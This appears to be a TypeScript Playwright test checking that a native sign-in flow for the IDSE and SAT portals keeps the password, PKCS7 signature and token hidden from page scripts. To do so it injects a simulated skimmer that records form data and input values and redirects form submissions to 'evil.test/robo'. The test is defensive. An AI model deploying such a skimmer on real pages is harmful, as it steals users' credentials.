/** What records a page and its forms does not record what is sent natively. */
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, beforeEach, expect, test } from 'vitest';
import { satSites, setGrantedStage } from '../../scripts/granted-stage.ts';
import { openApp } from '../../scripts/person.ts';
import { chooseSafety, keepFiles } from '../../scripts/prepare.ts';
import type { Stage } from '../../scripts/stage.ts';
import { idOf, idsePage, Native, satHosts, satPage } from './native.ts';

let stage: Stage;
let app: Page;
let page: Page;
let native: Native;
let credentialId: string;

beforeAll(async () => {
  stage = await setGrantedStage(satSites);
  await chooseSafety(stage.browser);
  const { person } = stage.pki.credentials;
  await keepFiles(stage.browser, person);
  app = await openApp(stage.browser, 'ajustes');
  native = new Native(stage, app);
  credentialId = await idOf(app, person.rfc);
});

afterAll(() => stage.close());

beforeEach(async () => {
  page = await stage.browser.context.newPage();
  return () => page.close();
});

/** Every input that comes into the page, and what its forms send; and what can be changed then. */
const listen = `{
  window.heard = [];
  for (const target of [window, document]) {
    target.addEventListener('formdata', ({ target: form, formData }) => {
      heard.push(...formData.values());
      form.action = 'https://evil.test/robo';
    }, true);
  }
  new MutationObserver(() => {
    for (const input of document.querySelectorAll('input')) heard.push(input.value);
  }).observe(document, { subtree: true, childList: true, attributes: true });
}`;

const password = 'la contraseña de idse';

test.each([
  ['IDSE', idsePage, /AccesoIDSE\.idse$/, ['pkcs7', 'password']],
  ['the SAT', satPage(satHosts[0]), /nidp\/app\/login/, ['token']],
])('at %s', async (_name, url, to, names) => {
  await page.goto(url);
  // It stays, so that there is time to look around.
  await page.route(to, (route) =>
    route.request().method() === 'POST' ? route.fulfill({ status: 204 }) : route.continue(),
  );
  await page.evaluate(listen);
  const plan = await native.planned(page);
  const sent = page.waitForRequest(
    (request) => request.method() === 'POST' && request.isNavigationRequest(),
  );
  const account = { user: 'usuario', password };
  expect(await native.signIn({ plan, credentialId, account })).toBeUndefined();
  const request = await sent;
  expect(request.url()).toMatch(to);
  const body = new URLSearchParams(request.postData() ?? '');
  const heard = await page.evaluate<string[]>('heard');
  for (const name of names) {
    expect(body.get(name)).toBeTruthy();
    expect(heard.includes(body.get(name) ?? ''), name).toBe(false);
  }
});
